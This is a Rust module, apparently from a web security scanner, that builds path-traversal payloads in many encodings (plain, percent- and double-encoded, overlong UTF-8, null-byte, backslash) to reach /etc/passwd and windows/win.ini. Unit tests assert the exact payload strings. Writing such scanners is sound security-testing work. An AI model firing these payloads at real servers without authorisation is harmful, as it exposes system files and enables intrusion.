//! Ways of writing a path that leads out of a folder.

use model::profile::Payloads;

use crate::data::path::Proof;

/// How far up. Deeper than most folders that are served, and shallow enough that lines stay short: what is above the top of a
/// machine is the top again.
const UP: usize = 8;

/// One way of writing, from a number of payloads on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Way {
    from: Payloads,
    /// Comes first.
    lead: &'static str,
    /// One step up.
    up: &'static str,
    /// How many steps.
    steps: usize,
    /// Between the names of the file.
    slash: &'static str,
    /// Whether the slash at the end of the folder is left out.
    bare: bool,
    pub(super) file: File,
}

/// A file that every machine of a kind has.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum File {
    /// `/etc/passwd`.
    Unix,
    /// `windows/win.ini`.
    Windows,
}

impl File {
    pub(super) fn proof(self) -> Proof {
        match self {
            Self::Unix => Proof::Passwd,
            Self::Windows => Proof::WinIni,
        }
    }

    fn names(self) -> (&'static str, &'static str) {
        match self {
            Self::Unix => ("etc", "passwd"),
            Self::Windows => ("windows", "win.ini"),
        }
    }
}

const fn unix(from: Payloads, lead: &'static str, up: &'static str, slash: &'static str) -> Way {
    Way { from, lead, up, steps: UP, slash, bare: false, file: File::Unix }
}

const fn windows(from: Payloads, up: &'static str, slash: &'static str) -> Way {
    Way { from, lead: "", up, steps: UP, slash, bare: false, file: File::Windows }
}

/// Those that most servers would fall for first. What stands between the names is written as the steps are where a server
/// that takes a plain slash for the border of a route would not let it through.
const WAYS: &[Way] = &[
    unix(Payloads::Light, "", "../", "/"),
    unix(Payloads::Light, "", "%2e%2e/", "/"),
    unix(Payloads::Light, "", "..%2f", "%2f"),
    unix(Payloads::Normal, "", ".%2e/", "/"),
    unix(Payloads::Normal, "", "%2e%2e%2f", "%2f"),
    unix(Payloads::Normal, "", "%252e%252e%252f", "%252f"),
    unix(Payloads::Normal, "", "....//", "/"),
    unix(Payloads::Normal, "", "..;/", "/"),
    unix(Payloads::Normal, "", "..%5c", "%5c"),
    // The name of the folder without its slash in front of a step: a prefix that a server takes off.
    Way { bare: true, steps: 1, ..unix(Payloads::Normal, "", "../", "/") },
    // A path that begins at the top once the folder is taken off.
    Way { steps: 0, ..unix(Payloads::Normal, "/", "", "/") },
    Way { steps: 0, ..unix(Payloads::Normal, "%2f", "", "%2f") },
    windows(Payloads::Normal, "../", "/"),
    windows(Payloads::Normal, "..%5c", "%5c"),
    windows(Payloads::Thorough, "..\\", "\\"),
    windows(Payloads::Thorough, "..%2f", "%2f"),
    windows(Payloads::Thorough, "%2e%2e%5c", "%5c"),
    windows(Payloads::Thorough, "..%255c", "%255c"),
    unix(Payloads::Thorough, "/", "../", "/"),
    unix(Payloads::Thorough, "", "..%252f", "%252f"),
    unix(Payloads::Thorough, "", "%252e%252e/", "/"),
    unix(Payloads::Thorough, "", "%%32%65%%32%65/", "/"),
    unix(Payloads::Thorough, "", "..\\", "\\"),
    unix(Payloads::Thorough, "", "..%c0%af", "%c0%af"),
    unix(Payloads::Thorough, "", "%c0%ae%c0%ae/", "/"),
    unix(Payloads::Thorough, "", "..././", "/"),
    unix(Payloads::Thorough, "", "..%00/", "/"),
];

impl Way {
    /// The path from `folder` (with its slash at the end) to the file, as it stands in the request line.
    pub(super) fn target(&self, folder: &str) -> String {
        self.with(folder, self.file.names().1)
    }

    /// The path to a file beside it.
    pub(super) fn beside(&self, folder: &str, name: &str) -> String {
        self.with(folder, name)
    }

    fn with(&self, folder: &str, name: &str) -> String {
        let folder = if self.bare { folder.strip_suffix('/').unwrap_or(folder) } else { folder };
        let (outer, slash) = (self.file.names().0, self.slash);
        format!("{folder}{}{}{outer}{slash}{name}", self.lead, self.up.repeat(self.steps))
    }
}

/// The ways for a number of payloads; those of Windows also with fewer where the site is known to run on it.
pub(super) fn ways(payloads: Payloads, on_windows: bool, folder: &str) -> Vec<Way> {
    let fits = |way: &&Way| {
        let enough = way.from <= payloads || on_windows && way.file == File::Windows;
        // Without its slash the root would be no path at all.
        enough && !(way.bare && folder == "/")
    };
    WAYS.iter().filter(fits).copied().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_are_written_as_meant() {
        let all = ways(Payloads::Thorough, false, "/files/");
        let written: Vec<String> = all.iter().map(|w| w.target("/files/")).collect();
        for expected in [
            "/files/../../../../../../../../etc/passwd",
            "/files/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
            "/files../etc/passwd",
            "/files//etc/passwd",
            "/files/..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5cwindows%5cwin.ini",
        ] {
            assert!(written.iter().any(|w| w == expected), "{expected} of {written:?}");
        }
        assert!(written.iter().all(|w| w.starts_with("/files") && !w.contains([' ', '\r', '\n'])));
        let mut distinct = written.clone();
        distinct.sort_unstable();
        distinct.dedup();
        assert_eq!(distinct.len(), written.len());
        assert_eq!(all[0].beside("/", "x"), "/../../../../../../../../etc/x");
    }

    #[test]
    fn fewer_payloads_are_fewer_ways() {
        let count = |payloads, windows, folder| ways(payloads, windows, folder).len();
        assert_eq!(count(Payloads::Light, false, "/a/"), 3);
        assert!(count(Payloads::Light, true, "/a/") > 3);
        assert!(count(Payloads::Normal, false, "/a/") < count(Payloads::Thorough, false, "/a/"));
        assert_eq!(count(Payloads::Normal, false, "/a/") - 1, count(Payloads::Normal, false, "/"));
    }
}
